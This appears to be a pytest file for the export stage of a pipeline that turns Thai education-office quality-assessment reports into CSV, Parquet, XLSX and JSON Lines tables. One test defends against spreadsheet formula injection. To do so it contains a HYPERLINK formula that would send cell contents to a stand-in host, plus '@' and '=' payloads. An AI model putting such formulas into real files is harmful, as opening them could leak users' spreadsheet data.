"""The four tables, in CSV (UTF-8 with BOM), Parquet, XLSX and JSON Lines, and the Python API."""

from __future__ import annotations

import json

import pandas as pd
import pytest

import pipeline
from pipeline.export import write_dataset

from conftest import CORPUS

REQUIRED = {
    "documents": {"file", "sha256", "format", "status", "error", "organisation", "fiscal_year_be", "framework",
                  "standards_found", "indicators_found", "standards_stated", "indicators_stated"},
    "standards": {"file", "standard", "name", "score", "level", "level_label"},
    "indicators": {"file", "standard", "indicator", "name", "level", "level_label", "score", "method", "evidence",
                   "location", "needs_review", "review_reason"},
    "findings": {"file", "check", "severity", "message", "expected", "actual", "location"},
}


@pytest.fixture(scope="module")
def dataset():
    return pipeline.extract([CORPUS / "000_lamphun2_2557_prose.docx", CORPUS / "esa2557_review_cases.docx",
                             CORPUS / "bad_empty.docx"])


def test_api_returns_dataframes_with_the_contract_columns(dataset):
    for name, cols in REQUIRED.items():
        df = getattr(dataset, name)
        assert isinstance(df, pd.DataFrame) and cols <= set(df.columns), name
    assert len(dataset.documents) == 3
    assert str(dataset.indicators["level"].dtype) == "Int64"


def test_written_files(tmp_path, dataset):
    write_dataset(dataset, tmp_path)
    for name in REQUIRED:
        raw = (tmp_path / f"{name}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to show Thai
        back = pd.read_csv(tmp_path / f"{name}.csv", encoding="utf-8-sig")
        assert len(back) == len(getattr(dataset, name))
        assert len(pd.read_parquet(tmp_path / f"{name}.parquet")) == len(getattr(dataset, name))
    sheets = pd.read_excel(tmp_path / "sarkit.xlsx", sheet_name=None)
    assert list(sheets) == ["summary", *REQUIRED, "columns"]
    assert "ดีเยี่ยม" in set(sheets["indicators"]["level_label"].dropna())
    records = [json.loads(line) for line in (tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(records) == 3
    first = records[0]
    assert len(first["indicators"]) == 17 and first["indicators"][0]["level"] == 5
    assert not list(tmp_path.glob(".*"))  # no temporary files left behind


def test_review_rows_carry_their_reason(dataset):
    ind = dataset.indicators
    flagged = ind[ind["needs_review"]]
    assert len(flagged) == 5 and flagged["review_reason"].str.len().min() > 10
    assert flagged["level"].isna().all()


def test_formula_injection_is_neutralised_and_numbers_stay_numbers(tmp_path, make_file):
    """Document text and file names that a spreadsheet would run: text in CSV and XLSX, never a formula."""
    import os

    import openpyxl

    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"คลิก")'
    page = make_file("=cmd.html", f"<p>มาตรฐานที่ 1 {evil}</p><p>ตัวบ่งชี้ที่ 1 @SUM(1+1) ระดับดีมาก</p>")
    ds = pipeline.extract([page])
    os.umask(0o022)
    write_dataset(ds, tmp_path)
    csv = (tmp_path / "indicators.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM" in csv and ",'=" not in csv.split("\n", 1)[0]
    docs = (tmp_path / "documents.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd.html" not in docs  # a path starts with its folder, not with "="
    wb = openpyxl.load_workbook(tmp_path / "sarkit.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
    levels = [c.value for c in wb["indicators"]["G"][1:]]
    assert levels == [4]  # numbers stay numbers
    assert json.loads((tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0])["file"]
    assert oct((tmp_path / "documents.csv").stat().st_mode & 0o777) == "0o644"  # the user's umask, not 0600


def test_workbook_opens_ready_to_use(tmp_path, dataset):
    """Bold, frozen, filtered header; widths; numbers as numbers; a summary first; every column explained."""
    import openpyxl

    from pipeline.columns import TABLES

    write_dataset(dataset, tmp_path, formats=("xlsx",))
    wb = openpyxl.load_workbook(tmp_path / "sarkit.xlsx")
    assert wb.sheetnames[0] == "summary" and wb.sheetnames[-1] == "columns"
    for name in REQUIRED:
        ws = wb[name]
        assert ws.freeze_panes == "A2" and ws["A1"].font.b
        assert ws.auto_filter.ref.startswith("A1:")
        assert all(ws.column_dimensions[c].width >= 8 for c in "ABC")
    ws = wb["indicators"]
    header = [c.value for c in ws[1]]
    level = ws.cell(row=2, column=header.index("level") + 1).value
    assert isinstance(level, int) and level == 5
    summary = [r for r in wb["summary"].iter_rows(values_only=True)]
    by_status = {r[0]: r[2] for r in summary if r[0] in ("ok", "needs_review", "error", "no_assessment")}
    assert sum(by_status.values()) == 3 and by_status["error"] == 1
    explained = {(r[0], r[1]) for r in wb["columns"].iter_rows(min_row=2, values_only=True)}
    assert explained == {(t, c.name) for t, cs in TABLES.items() for c in cs}


def test_indicators_without_a_level_are_counted_as_such(tmp_path, dataset):
    """The workbook's summary and the report's table count every indicator: those with no level in the
    "no level" column (pandas 3 reads a missing Int64 as nan under astype(str), which had dropped them)."""
    import openpyxl

    from pipeline.summary import levels_by_standard

    ind = dataset.indicators
    missing = int(ind["level"].isna().sum())
    assert missing > 0  # the review cases hold indicators without a level
    table = levels_by_standard(ind)
    assert table["no level"].sum() == missing and table["indicators"].sum() == len(ind)
    write_dataset(dataset, tmp_path, formats=("xlsx",))
    summary = list(openpyxl.load_workbook(tmp_path / "sarkit.xlsx")["summary"].iter_rows(values_only=True))
    head = next(k for k, r in enumerate(summary) if r[:3] == ("framework", "part", "standard"))
    rows = [r for r in summary[head + 1:] if r[0] is not None]
    assert sum(r[8] for r in rows) == missing and sum(r[9] for r in rows) == len(ind)


def test_parquet_metadata_is_what_pandas_writes():
    """The writer builds the Parquet schema's pandas metadata itself (no pandas in the batch's parent):
    it must be what pandas makes of the contract's empty frame."""
    import pyarrow as pa

    from pipeline.columns import TABLES, dtypes
    from pipeline.export import _arrow_schema

    for table in TABLES:
        empty = pd.DataFrame({c: pd.Series(dtype=d) for c, d in dtypes(table).items()})
        theirs = pa.Table.from_pandas(empty, schema=_arrow_schema(table).remove_metadata(), preserve_index=False)
        assert json.loads(_arrow_schema(table).metadata[b"pandas"]) == json.loads(theirs.schema.metadata[b"pandas"])


def test_workbook_continues_a_table_longer_than_a_sheet(tmp_path, dataset, monkeypatch, caplog):
    import openpyxl

    from pipeline import export

    monkeypatch.setattr(export, "EXCEL_MAX_ROWS", 10)
    write_dataset(dataset, tmp_path, formats=("xlsx",))
    wb = openpyxl.load_workbook(tmp_path / "sarkit.xlsx", read_only=True)
    parts = [n for n in wb.sheetnames if n.startswith("indicators")]
    rows = sum(wb[n].max_row - 1 for n in parts)
    assert len(parts) > 1 and rows == len(dataset.indicators)
    assert "continues on sheet indicators (2)" in caplog.text


def test_document_facts_on_every_row_and_canonical_labels(dataset):
    docs = dataset.documents.set_index("file")
    for table in (dataset.standards, dataset.indicators):
        for col in ("organisation", "fiscal_year_be", "academic_year_be", "framework"):
            assert (table[col].fillna(-1) == table["file"].map(docs[col]).fillna(-1)).all(), col
    ind = dataset.indicators.dropna(subset=["level"])
    from pipeline.scales import canonical_label
    assert all(lab == canonical_label(int(lv), "esa") or lab == canonical_label(int(lv), "school")
               for lv, lab in zip(ind["level"], ind["level_label"]))
    assert "level_label_as_written" in ind


def test_documents_count_and_name_their_findings(dataset):
    docs = dataset.documents.set_index("file")
    counts = dataset.findings.groupby("file").size()
    for f, row in docs.iterrows():
        assert row["findings"] == counts.get(f, 0)
        assert set(filter(None, row["finding_checks"].split("; "))) == \
            set(dataset.findings[dataset.findings.file == f]["check"])
    assert docs["findings"].sum() > 0 and (docs["schema_version"] != "").all()


def test_generated_schema_files_match_the_contract():
    """schemas/output/*.json and outputs/README.md's column tables are generated from pipeline.columns:
    regenerate with `python -m pipeline.columns` when a column changes."""
    from pipeline import columns

    for name, text in columns.schema_files().items():
        assert (columns.ROOT / "schemas" / "output" / name).read_text(encoding="utf-8") == text, name
    readme = (columns.ROOT / "outputs" / "README.md").read_text(encoding="utf-8")
    assert columns.markdown() in readme


def test_rows_follow_the_json_schema(dataset):
    """Each table's rows, as JSON, against its JSON Schema: types, enums and required columns."""
    jsonschema = pytest.importorskip("jsonschema")
    from pipeline import columns

    for table in REQUIRED:
        schema = columns.json_schema(table)
        df = getattr(dataset, table)
        for rec in json.loads(df.to_json(orient="records", force_ascii=False)):
            jsonschema.validate(rec, schema)


def test_the_example_notebook_runs_on_written_tables(tmp_path, dataset, monkeypatch, capsys):
    import runpy
    import sys

    from pipeline.columns import ROOT

    write_dataset(dataset, tmp_path, formats=("parquet",))
    monkeypatch.setattr(sys, "argv", ["levels_by_office_year.py", str(tmp_path)])
    runpy.run_path(str(ROOT / "examples" / "levels_by_office_year.py"), run_name="__main__")
    pivot = pd.read_csv(tmp_path / "levels_by_office_year.csv", encoding="utf-8-sig", index_col=0)
    assert "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาลำพูน เขต 2" in pivot.index
    assert "mean indicator level" in capsys.readouterr().out
